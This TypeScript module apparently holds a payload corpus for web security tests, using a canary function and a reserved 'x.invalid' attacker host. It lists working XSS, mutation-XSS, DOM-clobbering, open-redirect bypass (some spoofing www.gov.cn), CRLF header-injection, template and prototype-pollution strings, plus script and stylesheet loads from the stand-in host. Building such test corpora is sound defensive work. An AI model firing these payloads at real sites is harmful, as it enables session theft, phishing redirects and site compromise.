/** What an attacked page must never do: call `__x`, or lead to this host. */
export const CANARY = "__x";
export const ATTACKER_ORIGIN = "x.invalid";

/** What somebody puts into an address or a field. `written`: as it stands in the address, with encodings that no program would write. */
export type Payload = { text: string; written?: boolean };

const RUN = `${CANARY}(1)`;

/** Ends of what a value may stand in. */
const BREAKOUTS = ["", '"', "'", '">', "'>", "`>", "</script>", "</title>", "</textarea>", "</style>", "-->", "]]>", "</noscript>"];

/** Elements that run something by themselves, or change where the page's own addresses lead. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<details open ontoggle=${RUN}>`,
  `<base href=//${ATTACKER_ORIGIN}/>`,
  `<meta http-equiv=refresh content="0;url=//${ATTACKER_ORIGIN}/">`,
];

const elements = BREAKOUTS.flatMap((end) => ELEMENTS.map((element) => end + element));

const moreElements = [
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<script src=//${ATTACKER_ORIGIN}/x.js></script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<button formaction=javascript:${RUN}>x</button>`,
  `<object data=javascript:${RUN}>`,
  `<embed src=javascript:${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<link rel=stylesheet href=//${ATTACKER_ORIGIN}/x.css>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math href=javascript:${RUN}>x</math>`,
];

const attributes = ['"', "'", "`", ""].flatMap((quote) => [
  `${quote} onmouseover=${RUN} x=${quote}`,
  `${quote} autofocus onfocus=${RUN} x=${quote}`,
  `${quote}/onpointerover=${RUN}//`,
  `${quote} style=background:url(//${ATTACKER_ORIGIN}/) x=${quote}`,
]);

const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://${ATTACKER_ORIGIN}/%0a${RUN}`,
  `javascript:/portal/${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3goMSk8L3NjcmlwdD4=`,
  `blob:https://${ATTACKER_ORIGIN}/x`,
  `view-source:https://${ATTACKER_ORIGIN}/`,
  `feed:javascript:${RUN}`,
];

const redirects = [
  `//${ATTACKER_ORIGIN}/`,
  `///${ATTACKER_ORIGIN}/`,
  `////${ATTACKER_ORIGIN}/portal/`,
  `/\\${ATTACKER_ORIGIN}/`,
  `\\\\${ATTACKER_ORIGIN}/`,
  `/\t/${ATTACKER_ORIGIN}/`,
  `https:${ATTACKER_ORIGIN}`,
  `https:/${ATTACKER_ORIGIN}`,
  `https:\\\\${ATTACKER_ORIGIN}`,
  `https://${ATTACKER_ORIGIN}/portal/index`,
  `https://www.gov.cn@${ATTACKER_ORIGIN}/`,
  `https://www.gov.cn\\@${ATTACKER_ORIGIN}/`,
  `https://www.gov.cn.${ATTACKER_ORIGIN}/`,
  `https://${ATTACKER_ORIGIN}#www.gov.cn`,
  `https://${ATTACKER_ORIGIN}?.gov.cn`,
  `https://${ATTACKER_ORIGIN}\\.gov.cn`,
  `https://${ATTACKER_ORIGIN}%2f.gov.cn`,
  `https://${ATTACKER_ORIGIN}。gov.cn.${ATTACKER_ORIGIN}`,
  `/portal/../..//${ATTACKER_ORIGIN}/`,
  `/portal/..//${ATTACKER_ORIGIN}/`,
  `/portal/%2e%2e/%2e%2e//${ATTACKER_ORIGIN}/`,
  `/portal/\\..\\..\\\\${ATTACKER_ORIGIN}/`,
  `/portal//${ATTACKER_ORIGIN}/../..//${ATTACKER_ORIGIN}`,
  `/portal@${ATTACKER_ORIGIN}/`,
  `/portal/.${ATTACKER_ORIGIN}/..//${ATTACKER_ORIGIN}`,
  `.${ATTACKER_ORIGIN}/`,
  `@${ATTACKER_ORIGIN}/`,
];

const written = [
  "%253Cscript%253E__x(1)%253C/script%253E",
  "%25253Cscript%25253E__x(1)%25253C/script%25253E",
  "%C0%BCscript%C0%BE__x(1)%C0%BC/script%C0%BE",
  "%E0%80%BCscript%E0%80%BE__x(1)",
  "%F0%80%80%BCscript%F0%80%80%BE__x(1)",
  "%u003Cscript%u003E__x(1)%u003C/script%u003E",
  "%EF%BC%9Cscript%EF%BC%9E__x(1)",
  "%00%3Cscript%3E__x(1)%3C/script%3E",
  "%3C%00script%3E__x(1)%3C/script%3E",
  "%3Cscr%00ipt%3E__x(1)%3C/script%3E",
  "%FF%FE%3Cscript%3E__x(1)",
  "%3C%2Fscript%3E%3Cimg%20src%3Dx%20onerror%3D__x(1)%3E",
  "%22%3E%3Cimg+src%3Dx+onerror%3D__x(1)%3E",
  "%2F%2Fx.invalid%2F",
  "%252F%252Fx.invalid%252F",
  "%2F%5Cx.invalid",
  "%2Fportal%2F%250d%250aLocation:%2520//x.invalid",
  "%0d%0aSet-Cookie:%20x=1",
  "%0d%0a%0d%0a%3Cscript%3E__x(1)%3C/script%3E",
  "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1",
];

const entities = [
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}`,
  `\\"><script>${RUN}</script>`,
];

const signs = [
  `＜script＞${RUN}＜/script＞`,
  `<ſcript>${RUN}</ſcript>`,
  `<scr\u200Bipt>${RUN}</script>`,
  `<script\u00A0>${RUN}</script>`,
  `\u2028${RUN}//`,
  `\u2029${RUN}//`,
  `\u202E<script>${RUN}</script>`,
  `"\u0301><img src=x onerror=${RUN}>`,
  `ʺ><img src=x onerror=${RUN}>`,
];

const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{${RUN}}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `__proto__`,
  `constructor`,
  `[object Object]`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}}`,
];

const inScripts = [
  `";${RUN}//`,
  `';${RUN}//`,
  `\\";${RUN}//`,
  `"]}</script><script>${RUN}</script>`,
  `"}]}]</script><img src=x onerror=${RUN}>`,
  `</script ><script>${RUN}</script >`,
  `</ScRiPt><script>${RUN}</script>`,
  `<!--<script>${RUN}//`,
  `-->${RUN}`,
  `*/${RUN}/*`,
];

const styles = [
  `</style><style>*{background:url(//${ATTACKER_ORIGIN}/)}`,
  `;background:url(//${ATTACKER_ORIGIN}/)`,
  `expression(${RUN})`,
  `@import "//${ATTACKER_ORIGIN}/x.css";`,
  `}*{background:url(//${ATTACKER_ORIGIN}/)}`,
];

const mutated = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
];

const clobbering = [`<form id=main><input name=action>`, `<a id=location href=//${ATTACKER_ORIGIN}/>`, `<img name=cookie>`];

const plain = (texts: readonly string[]): Payload[] => texts.map((text) => ({ text }));

/** More than two hundred ways in: each opens a context, an encoding or a reading of an address that somebody has forgotten before. */
export const PAYLOADS: readonly Payload[] = [
  ...plain([...elements, ...moreElements, ...attributes, ...schemes, ...redirects, ...entities, ...signs, ...templates, ...inScripts, ...styles]),
  ...plain([...mutated, ...clobbering]),
  ...written.map((text) => ({ text, written: true })),
];

/** Those that try to lead a browser away. */
export const REDIRECTS: readonly Payload[] = [...plain([...redirects, ...schemes]), ...written.map((text) => ({ text, written: true }))];

/** As it stands in an address. */
export const urlEncoded = ({ text, written: asIs }: Payload): string => (asIs ? text : encodeURIComponent(text));

/** As a form sends it: what is written for addresses is decoded where that is possible. */
export function formEncoded({ text, written: asIs }: Payload): string {
  if (!asIs) return text;
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}
